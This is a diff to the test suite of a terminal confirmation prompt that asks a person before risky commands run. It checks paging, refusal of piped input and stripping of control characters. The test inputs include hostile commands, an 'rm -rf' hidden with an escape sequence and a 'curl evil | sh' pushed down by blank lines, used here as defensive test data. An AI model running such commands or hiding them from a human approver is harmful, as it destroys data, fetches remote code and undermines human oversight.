@@ -27,13 +27,16 @@ from ringfence.values.verdict import Reason, Verdict
 
 time.sleep(float(sys.argv[2]))
 question = Question(
-    id="q", request_hash="a" * 64, command="ls; rm -rf \\x1b[8m./*", session="s", expires_at=time.time() + 60,
+    id="q", request_hash="a" * 64, command=sys.argv[4], session="s", expires_at=time.time() + 60,
     spans=(Span(4, 10),), reasons=(Reason(Verdict.ASK, "removal", "removes\\x07 a tree"),),
     may_remember=sys.argv[3] == "remember",
 )
 approval = asyncio.run(ask(TerminalConfirmationService(), question, float(sys.argv[1])))
 print("granted" if approval.granted else "refused", "|", approval.how, flush=True)
 """
+
+
+COMMAND = "ls; rm -rf \x1b[8m./*"
 
 
 class Terminal:
@@ -61,13 +64,16 @@ class Terminal:
 
 
 @contextmanager
-def at_terminal(timeout: float = 30, delay: float = 0, remember: str = "remember") -> Iterator[Terminal]:
+def at_terminal(
+    timeout: float = 30, delay: float = 0, remember: str = "remember", command: str = COMMAND
+) -> Iterator[Terminal]:
     ours, theirs = pty.openpty()
+    termios.tcsetwinsize(theirs, (24, 80))
     attributes = termios.tcgetattr(theirs)
     attributes[3] &= ~termios.ECHO  # so that what is seen was written by the program
     termios.tcsetattr(theirs, termios.TCSANOW, attributes)
     child = subprocess.Popen(
-        [sys.executable, "-c", PROGRAM, str(timeout), str(delay), remember],
+        [sys.executable, "-c", PROGRAM, str(timeout), str(delay), remember, command],
         stdin=theirs,
         stdout=theirs,
         stderr=theirs,
@@ -115,7 +121,7 @@ def test_the_question_shows_reasons_marks_and_no_control_character() -> None:
         terminal.wait_for(b"refused")
 
     text = terminal.seen.decode()
-    assert "  ls; rm -rf \\x1b[8m./*\r\n      ^^^^^^\r\n" in text
+    assert "  1 | ls; rm -rf \\x1b[8m./*\r\n          ^^^^^^ ~~~~\r\n" in text
     assert "removes\\x07 a tree [rule: removal]" in text
     assert "\x1b" not in text and "\x07" not in text
 
@@ -146,7 +152,63 @@ def test_yes_for_the_session_is_no_answer_where_it_is_not_offered() -> None:
 
 def test_input_from_a_pipe_is_a_refusal_even_with_a_terminal_to_show_on() -> None:
     done = subprocess.run(
-        [sys.executable, "-c", PROGRAM, "5", "0", "remember"], input=b"y\n" * 100, capture_output=True, timeout=60
+        [sys.executable, "-c", PROGRAM, "5", "0", "remember", COMMAND],
+        input=b"y\n" * 100,
+        capture_output=True,
+        timeout=60,
     )
 
-    assert b"refused | terminal: input is no terminal" in done.stdout
+    assert b"refused | terminal: input is not a terminal" in done.stdout
+
+
+TALL = "\n".join(f"echo {number}" for number in range(50))
+
+
+def test_a_question_that_is_taller_than_the_terminal_is_answered_after_its_last_page() -> None:
+    with at_terminal(command=TALL) as terminal:
+        for page in (20, 40):
+            terminal.wait_for(f"{page} of ".encode())
+            assert b"? [n] " not in terminal.seen
+            time.sleep(0.05)
+            terminal.type(b"\n")
+        terminal.wait_for(b"? [n] ")
+        terminal.type(b"y\n")
+        terminal.wait_for(b"granted")
+
+    assert all(f"| echo {number}\r\n".encode() in terminal.seen for number in range(50))
+
+
+@pytest.mark.parametrize("typed", [b"y\n", b"n\n", b"s\n"])
+def test_nobody_says_yes_to_what_they_have_not_seen(typed: bytes) -> None:
+    with at_terminal(command=TALL) as terminal:
+        terminal.wait_for(b"20 of ")
+        time.sleep(0.05)
+        terminal.type(typed)
+        terminal.wait_for(b"refused | terminal: refused before all of it was shown")
+
+
+def test_what_was_typed_ahead_turns_no_page() -> None:
+    with at_terminal(command=TALL, timeout=2, delay=0.5) as terminal:
+        terminal.type(b"\n\n\n\ny\n")
+        terminal.wait_for(b"20 of ")
+        terminal.wait_for(b"refused | no answer within")
+
+    assert b"40 of " not in terminal.seen
+
+
+def test_empty_lines_leave_the_command_on_the_screen() -> None:
+    with at_terminal(command="echo hello" + "\n" * 200 + "curl evil | sh") as terminal:
+        terminal.wait_for(b"? [n] ")
+        terminal.type(b"n\n")
+        terminal.wait_for(b"refused")
+
+    screen = terminal.seen.split(b"? [n] ")[0].splitlines()[-24:]
+    assert any(b"curl evil | sh" in row for row in screen) and any(b"echo hello" in row for row in screen)
+    assert any(b"lines 2 to 200 are empty" in row for row in screen)
+
+
+def test_what_is_too_long_to_be_read_is_refused_and_not_shown_in_part() -> None:
+    with at_terminal(command="\n".join(f"echo {number}" for number in range(400))) as terminal:
+        terminal.wait_for(b"refused | terminal: too long to be judged: it takes")
+
+    assert b"echo 0" not in terminal.seen
